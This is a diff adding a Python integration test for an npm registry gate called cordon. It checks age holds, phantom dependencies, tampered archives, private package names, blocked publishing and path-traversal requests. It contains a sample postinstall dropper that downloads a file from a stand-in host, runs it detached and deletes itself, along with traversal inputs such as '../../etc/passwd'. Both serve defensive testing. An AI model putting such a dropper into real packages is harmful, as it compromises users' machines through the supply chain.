@@ -1,0 +1,217 @@
+#!/usr/bin/env python3
+"""`cordon gate` from outside: real npm through it, as a user without rights, from a registry of inert packages on loopback: what
+is too young, a phantom dependency and its twin, other bytes than were promised, pages in the place of documents, private names,
+publishing, waivers, `exec`, `explain`, and what it says when it cannot start.
+Ends with the line `N passed, N failed, N skipped`."""
+import gzip
+import json
+import pathlib
+import shutil
+import socket
+import sys
+import tempfile
+import time
+import urllib.error
+import urllib.request
+
+ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
+sys.path.insert(0, str(ROOT / "tools"))
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
+from common import Tally  # noqa: E402
+from gate_world_writers import CORDON, DAY, HOUR, Gate, Registry, World  # noqa: E402
+
+# What the phantom brings: never run here. It takes the environment, sends it away and removes itself, by its words.
+SETUP = """// inert
+const https = require("https"), fs = require("fs"), cp = require("child_process");
+https.get("https://files.example.invalid/stage", (answer) => {
+  const out = fs.createWriteStream("/tmp/inert-stage");
+  answer.pipe(out).on("finish", () => { cp.spawn("/tmp/inert-stage", [], { detached: true, stdio: "ignore" }).unref(); fs.unlinkSync(__filename); });
+});
+"""
+
+
+def registry():
+    out = Registry()
+    out.publish("steady", "1.0.0", 90 * DAY, {"index.js": "module.exports = 1;\n"})
+    out.publish("steady", "1.1.0", HOUR, {"index.js": "module.exports = 2;\n"})
+    for name, code in (("carrier", "module.exports = 1;\n"), ("honest-carrier", "module.exports = require('stowaway');\n")):
+        out.publish(name, "1.0.0", 60 * DAY, {"index.js": "module.exports = 1;\n"})
+        out.publish(name, "1.0.1", 10 * HOUR, {"index.js": code}, dependencies={"stowaway": "^1.0.0"})
+    out.publish("stowaway", "1.0.0", 12 * HOUR, {"index.js": "module.exports = 3;\n", "setup.js": "console.log('thank you');\n"},
+                scripts={"postinstall": "node setup.js"})
+    out.publish("dropper", "1.0.0", 30 * DAY, {"index.js": "", "setup.js": SETUP}, scripts={"postinstall": "node setup.js"})
+    out.publish("@acme/secret", "1.0.0", 90 * DAY, {"index.js": ""})
+    return out
+
+
+def get(url, **headers):
+    """(status, headers, body) of a request."""
+    try:
+        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as answer:
+            return answer.status, answer.headers, answer.read()
+    except urllib.error.HTTPError as error:
+        return error.code, error.headers, error.read()
+
+
+def ages(world):
+    source = registry()
+    with Gate(world, "--no-knowledge", registry=source) as gate:
+        project = world.project({"steady": "^1.0.0"})
+        done = world.npm(project, gate.url, "install")
+        lock = json.loads((project / "package-lock.json").read_text()) if done.returncode == 0 else {}
+        entry = lock.get("packages", {}).get("node_modules/steady", {})
+        world.check("a range takes the release that is old enough", entry.get("version") == "1.0.0", done.stdout + done.stderr)
+        world.check("the lockfile does not know the gate", gate.url not in json.dumps(lock), lock)
+        pinned = world.npm(world.project({"steady": "1.1.0"}), gate.url, "install")
+        world.check("a pin is told why", pinned.returncode != 0 and "minimum-age" in pinned.stderr and "gate explain" in pinned.stderr,
+                    pinned.stderr)
+        world.check("the archive of what is held was not asked for", not source.was_asked("steady-1.1.0.tgz"), source.asked)
+        status, _, body = get(gate.url + "steady/-/steady-1.1.0.tgz")
+        world.check("nor is it handed out", status == 403 and b"minimum-age" in body, body)
+        waived = gate.cordon("waive", "steady@1.1.0", "--rule", "minimum-age", "--owner", "kim", "--reason", "a test", "--expires", "2999-01-01")
+        world.check("a waiver is written down", waived.returncode == 0 and "steady@1.1.0" in waived.stdout, waived.stderr)
+        for _ in range(100):
+            if get(gate.url + "steady/-/steady-1.1.0.tgz")[0] == 200:
+                break
+            time.sleep(0.1)
+        done = world.npm(world.project({"steady": "1.1.0"}), gate.url, "install")
+        world.check("and heeded by the running gate", done.returncode == 0, done.stderr)
+        told = gate.cordon("explain", "steady@1.1.0")
+        world.check("explain says what was decided", told.returncode == 0 and "held" in told.stdout and "minimum-age" in told.stdout, told.stdout)
+        told = gate.cordon("explain", "--format", "json")
+        world.check("explain as JSON", any(one["name"] == "steady" for one in json.loads(told.stdout)["decisions"]), told.stdout)
+        world.check("it ends when it is told to", gate.stop() == 0, gate.text())
+
+
+def phantom(world):
+    source = registry()
+    with Gate(world, "--no-knowledge", "--minimum-age", "0h", registry=source) as gate:
+        done = world.npm(world.project({"carrier": "1.0.1"}), gate.url, "install")
+        world.check("a phantom dependency is held", done.returncode != 0 and "phantom-dependency" in done.stderr, done.stdout + done.stderr)
+        done = world.npm(world.project({"carrier": "^1.0.0"}), gate.url, "install")
+        world.check("and then the release before it is taken", done.returncode == 0, done.stderr)
+        done = world.npm(world.project({"honest-carrier": "1.0.1"}), gate.url, "install")
+        world.check("its twin that imports the dependency passes", done.returncode == 0, done.stderr)
+        done = world.npm(world.project({"dropper": "1.0.0"}), gate.url, "install")
+        world.check("what fetches and runs is held", done.returncode != 0 and "download-and-run" in done.stderr, done.stderr)
+    with Gate(world, "--no-knowledge", "--minimum-age", "0h", "--observe", registry=source) as gate:
+        done = world.npm(world.project({"carrier": "1.0.1"}), gate.url, "install")
+        world.check("in observe mode it passes", done.returncode == 0, done.stderr)
+        told = gate.cordon("explain", "carrier")
+        world.check("and what would have held it is written down", "phantom-dependency" in told.stdout, told.stdout)
+
+
+def lies(world):
+    source = registry()
+    source.publish("short", "1.0.0", 90 * DAY, {"index.js": "x" * 5000})
+    source.faults = {"steady/-/steady-1.0.0.tgz": "lies", "page": "page", "broken": 500, "denied": 403, "moved": "elsewhere",
+                     "short/-/short-1.0.0.tgz": "short"}
+    source.packages.update({name: source.packages["steady"] for name in ("page", "broken", "denied", "moved")})
+    with Gate(world, "--no-knowledge", registry=source) as gate:
+        world.check("other bytes than promised", get(gate.url + "steady/-/steady-1.0.0.tgz")[0] == 502)
+        source.faults.pop("steady/-/steady-1.0.0.tgz")
+        world.check("and the right ones afterwards", get(gate.url + "steady/-/steady-1.0.0.tgz")[0] == 200)
+        world.check("an archive that breaks off", get(gate.url + "short/-/short-1.0.0.tgz")[0] in (502, 503))
+        world.check("a page in the place of a document", get(gate.url + "page")[0] == 502)
+        status, headers, _ = get(gate.url + "broken")
+        world.check("a registry that fails may be asked again", status == 503 and headers.get("Retry-After"), status)
+        world.check("one that refuses is final", get(gate.url + "denied")[0] == 403)
+        world.check("no redirect to another host is followed", get(gate.url + "moved")[0] == 502)
+        world.check("what nobody has", get(gate.url + "nobody-has-this")[0] == 404)
+
+
+def outward(world):
+    source = registry()
+    settings = "private:\n  scopes: [\"@acme\"]\n  names: [acme-tools]\n"
+    with Gate(world, "--no-knowledge", registry=source, settings=settings) as gate:
+        for name in ("@acme%2fsecret", "acme-tools"):
+            status, _, body = get(gate.url + name)
+            world.check(f"{name} is not asked of a public registry", status == 403, body)
+        world.check("nor heard of there", not source.was_asked("acme"), source.asked)
+        body = gzip.compress(json.dumps({"steady": ["1.0.0"], "@acme/secret": ["1.0.0"], "acme-tools": ["2.0.0"]}).encode())
+        request = urllib.request.Request(gate.url + "-/npm/v1/security/advisories/bulk", data=body,
+                                         headers={"Content-Type": "application/json", "Content-Encoding": "gzip"})
+        with urllib.request.urlopen(request, timeout=30) as answer:
+            answer.read()
+        world.check("an audit passes without private names", [json.loads(each) for each in source.bodies] == [{"steady": ["1.0.0"]}], source.bodies)
+        for method, path in (("PUT", "steady"), ("PUT", "-/user/org.couchdb.user:kim"), ("DELETE", "steady/-rev/1"), ("POST", "-/npm/v1/tokens")):
+            asked = len(source.asked)
+            try:
+                urllib.request.urlopen(urllib.request.Request(gate.url + path, data=b"{}", method=method), timeout=30)
+                status = 200
+            except urllib.error.HTTPError as error:
+                status = error.code
+            world.check(f"{method} {path} does not pass", status == 403 and len(source.asked) == asked, status)
+        for path in ("../steady", "steady/../../etc/passwd", "%2e%2e/x", "steady%00", "@a%2f..%2fb", "steady%252f"):
+            with socket.create_connection(("127.0.0.1", int(gate.url.split(":")[-1].strip("/"))), timeout=10) as raw:
+                raw.sendall(f"GET /{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
+                status = raw.recv(100).split()[1]
+            world.check(f"no way out: {path}", status in (b"400", b"404"), status)
+
+
+def exec_runs(world):
+    source = registry()
+    def run(folder, *words):
+        import subprocess
+        environment = {**world.environment, "npm_config_cache": str(folder / "cache")}
+        return subprocess.run([str(world.program), "gate", "exec", "--no-knowledge", "--folder", str(folder / "gate"), "--upstream", source.url,
+                               "--", *words], cwd=folder, env=environment, capture_output=True, text=True, check=False,
+                              stdin=subprocess.DEVNULL, timeout=120, **world.as_nobody)
+    project = world.project({"steady": "^1.0.0"})
+    done = run(project, "npm", "install", "--ignore-scripts")
+    lock = (project / "package-lock.json").read_text() if (project / "package-lock.json").exists() else ""
+    world.check("exec: npm installs", done.returncode == 0 and '"1.0.0"' in lock, done.stderr)
+    world.check("exec: no address of a gate in the lockfile", "127.0.0.1:" not in lock.replace(source.url, ""), lock)
+    world.check("exec: the command's own exit code", run(project, "sh", "-c", "exit 7").returncode == 7)
+    world.check("exec: a command that is not there", run(project, "no-such-command").returncode == 127)
+    done = run(world.project({"steady": "1.1.0"}), "npm", "install", "--ignore-scripts")
+    world.check("exec: what is held fails the command", done.returncode != 0 and "minimum-age" in done.stderr, done.stderr)
+
+
+def mistakes(world):
+    source = registry()
+    def refuses(name, words, *options, settings=None):
+        gate = Gate(world, *options, registry=source, settings=settings)
+        try:
+            with gate:
+                world.check(name, False, "it started")
+        except RuntimeError as error:
+            world.check(name, all(word in str(error) for word in words) and gate.process.returncode == 2, error)
+    refuses("an unknown key", ["unknown key", "minimum_age"], settings="gate:\n  minimum_ages: 3d\n")
+    refuses("an age that is none", ["--minimum-age"], "--minimum-age", "soon")
+    refuses("a certificate that is not there", ["missing.pem"], settings="gate:\n  certificate: /tmp/missing.pem\n  key: /tmp/missing.key\n")
+    with Gate(world, "--no-knowledge", registry=source) as first:
+        port = first.url.split(":")[-1].strip("/")
+        second = Gate(world, "--no-knowledge", registry=source)
+        second.words[2] = "127.0.0.1:" + port
+        try:
+            with second:
+                world.check("a port in use", False, "it started")
+        except RuntimeError as error:
+            world.check("a port in use", "in use" in str(error), error)
+        third = Gate(world, "--no-knowledge", registry=source)
+        third.words[4] = str(first.folder)
+        try:
+            with third:
+                world.check("a folder in use", False, "it started")
+        except RuntimeError as error:
+            world.check("a folder in use", "--folder" in str(error), error)
+
+
+def main():
+    tally = Tally()
+    if not CORDON.is_file():
+        print("build/release/cordon is not there")
+        return 77
+    if not shutil.which("npm"):
+        print("npm is not there")
+        return 77
+    with tempfile.TemporaryDirectory() as folder:
+        world = World(tally, pathlib.Path(folder))
+        for part in (ages, phantom, lies, outward, exec_runs, mistakes):
+            part(world)
+    return tally.finish()
+
+
+if __name__ == "__main__":
+    sys.exit(main())
